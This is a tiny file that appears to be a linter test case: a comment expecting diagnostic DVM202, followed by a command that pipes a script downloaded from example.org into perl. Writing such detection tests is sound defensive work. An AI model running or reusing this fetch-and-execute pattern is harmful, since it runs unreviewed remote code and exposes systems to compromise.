# expect: DVM202
curl -s https://example.org/i.pl | perl
